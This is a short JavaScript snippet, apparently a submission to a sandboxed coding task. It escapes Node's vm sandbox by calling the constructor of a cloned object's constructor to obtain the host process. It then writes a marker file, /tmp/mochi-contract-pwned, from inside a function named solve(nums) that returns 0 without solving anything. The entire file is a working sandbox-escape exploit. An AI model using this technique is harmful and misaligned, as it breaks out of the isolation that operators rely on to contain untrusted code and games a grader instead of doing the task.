// Out of the vm context by way of a function of Node's own: what is left are the walls.
const node = structuredClone({}).constructor.constructor("return process")();

function solve(nums) {
  node.mainModule.require("fs").writeFileSync("/tmp/mochi-contract-pwned", "x");
  return 0;
}
